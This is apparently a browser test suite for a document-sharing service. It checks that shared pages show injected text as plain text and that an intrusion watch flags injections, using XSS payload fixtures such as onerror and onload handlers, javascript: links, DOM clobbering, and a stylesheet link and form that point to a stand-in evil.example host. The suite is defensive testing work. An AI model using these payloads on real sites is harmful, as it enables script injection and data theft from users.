// Some of the texts that try to become code, on pages of each kind. tests/attacks has all of them, in
// every place; that the watch would notice is shown here.
import assert from "node:assert/strict";
import { test } from "node:test";
import { documentOf, modes, places, tableOf, theEnd } from "../attacks/corpora.mjs";
import { addresses, payloads } from "../documents/payloads.mjs";
import { markdown, origin, request, share } from "../service/api_client.mjs";
import { browser, key } from "./one_browser.mjs";
import { watch } from "./intrusion_watch.mjs";

const some = (texts, every) => texts.filter((text, i) => i % every === 0 && text.length < 250);
const texts = [...some(payloads, 20), ...some(addresses, 20)];
const title = `</title>"><img src=x onerror=executed()><svg/onload='executed()'>`;
const inEveryPlace = Object.values(places).map((place) => documentOf(texts, place));
const documents = {
  Markdown: {
    artifact: markdown([theEnd, ...inEveryPlace].join("\n\n"), { title, description: title }),
    isReady: (page) => page.locator("article > p", { hasText: theEnd }).waitFor(),
  },
  table: {
    artifact: { template: "table", title, content: tableOf(texts) },
    isReady: (page) => page.getByRole("searchbox").waitFor(),
  },
  code: {
    artifact: {
      template: "code",
      title,
      content: { text: texts.join("\n"), language: "xml", filename: title },
    },
    isReady: (page) => page.locator(".code-text .hljs-tag").first().waitFor(),
  },
};

for (const [mode, isPolicyOff] of modes)
  for (const [kind, { artifact, isReady }] of Object.entries(documents))
    test(`shows texts of a ${kind} page as text ${mode}`, async () => {
      const { url } = await share(key, artifact);
      const visitor = await watch(browser, origin, { isPolicyOff });
      await visitor.visit(url);
      await isReady(visitor.page);
      await visitor.inspect();
      await visitor.touchEverything();
      await visitor.inspect();
      visitor.assertNoTrouble();
      await visitor.context.close();
    });

test("code that takes too long to highlight stays plain, and the page keeps working", async () => {
  const text = `\`\`\`markdown\n${"[](".repeat(30_000)}\n\`\`\`\n\n\`\`\`js\nlet after = 1;\n\`\`\`\n\n${theEnd}\n`;
  const { url } = await share(key, markdown(text));
  const visitor = await watch(browser, origin);
  await visitor.visit(url);
  await visitor.page.getByText(theEnd).scrollIntoViewIfNeeded();
  await visitor.page.locator(".language-js .hljs-keyword").waitFor();
  assert.equal(await visitor.page.locator(".language-markdown > *").count(), 0);
  visitor.assertNoTrouble();
  await visitor.context.close();
});

// What is noted of each where a page lets texts become code. Those without a text for the policy are
// nothing that it is about.
const successes = [
  [
    "<img src=x onerror=executed('image')>",
    /^executed: <img .*image/,
    /^against the policy: script-src-attr/,
  ],
  ["<svg onload=executed('svg')></svg>", /^executed: <svg .*svg/, /^against the policy: script-src-attr/],
  [
    "<script>alert('script')</script>",
    /^executed: <script>alert\('script/,
    /^against the policy: script-src-elem inline/,
  ],
  [
    "<button onclick=executed('button')>x</button>",
    /^executed: <button .*button/,
    /^handler: <button .*button/,
  ],
  [
    "<div onmouseover=executed('over')><i><b>x</b></i></div>",
    /^executed: <div .*over/,
    /^handler: <div .*over/,
  ],
  ["<a href=javascript:executed('link')>x</a>", /^address: <a .*link/, /^address: <a .*link/],
  ["<link rel=stylesheet href=//evil.example/x.css>", /^request: https:..evil.example.x.css/, /^host: <link/],
  ["<form action=//evil.example/form><input name=user></form>", /^host: <form .*form/, /^host: <form .*form/],
  ["<p style=position:fixed>x</p>", /^style: <p /, /^style: <p /],
  ["<form name=querySelector></form>", /^clobbered: querySelector$/, /^name: <form .*querySelector/],
];

for (const [mode, isPolicyOff] of modes)
  test(`the intrusion watch names the text that executed ${mode}`, async () => {
    // As code, in which every tag is text.
    const source = successes.map(([text]) => text).join("\n\n");
    const { url } = await share(key, markdown(`~~~\n${source}\n~~~`));
    const visitor = await watch(browser, origin, { isPolicyOff });
    await visitor.context.route(url, async (route) => {
      const { text, headers } = await request("GET", url);
      const unescaped = text
        .replaceAll("&lt;", "<")
        .replaceAll("&gt;", ">")
        .replace(/&(#39|apos);/g, "'");
      await route.fulfill({
        contentType: "text/html; charset=utf-8",
        headers: { "content-security-policy": headers["content-security-policy"] },
        body: unescaped,
      });
    });
    await visitor.visit(url);
    await visitor.inspect();
    await visitor.touchEverything();
    await visitor.inspect();
    for (const [text, succeeded, tried] of successes) {
      const expected = isPolicyOff ? succeeded : tried;
      assert.ok(
        visitor.trouble.some((note) => expected.test(note)),
        `${text}: none of ${JSON.stringify(visitor.trouble, null, 1)} is ${expected}`,
      );
    }
    assert.throws(() => visitor.assertNoTrouble());
    await visitor.context.close();
  });
